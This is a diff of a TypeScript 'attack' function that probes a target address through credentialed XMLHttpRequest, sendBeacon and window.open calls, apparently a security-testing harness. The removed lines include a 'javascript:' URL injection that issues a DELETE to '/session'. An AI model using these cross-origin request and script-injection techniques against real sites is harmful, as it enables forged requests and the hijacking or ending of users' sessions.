@@ -73,15 +73,6 @@ async function attack({ url, workspace, contact, token }: Target): Promise<Recor
         tries.push(call);
       }
     }
-    const older = attempt(`XMLHttpRequest ${method} ${address}`, async () => {
-      const request = new XMLHttpRequest();
-      request.open(method, address);
-      request.withCredentials = true;
-      request.send(body);
-      await new Promise((resolve) => request.addEventListener('loadend', resolve));
-      return request.responseText;
-    });
-    tries.push(older);
     for (const type of ['text/plain', 'application/json', 'application/x-www-form-urlencoded']) {
       await attempt(`beacon ${type} ${address}`, () => navigator.sendBeacon(address, new Blob([body ?? ''], { type })));
     }
@@ -137,13 +128,7 @@ async function attack({ url, workspace, contact, token }: Target): Promise<Recor
       opened?.close();
       return seen.join(' ');
     });
-    const entered = attempt(`script in a window ${address}`, async () => {
-      const opened = window.open(address);
-      await pause(1000);
-      if (opened !== null) opened.location.href = 'javascript:fetch("/session",{method:"DELETE"})';
-      opened?.close();
-    });
-    tries.push(looked, entered);
+    tries.push(looked);
   }
   await Promise.all(tries);
   // Last, because it leaves the page.
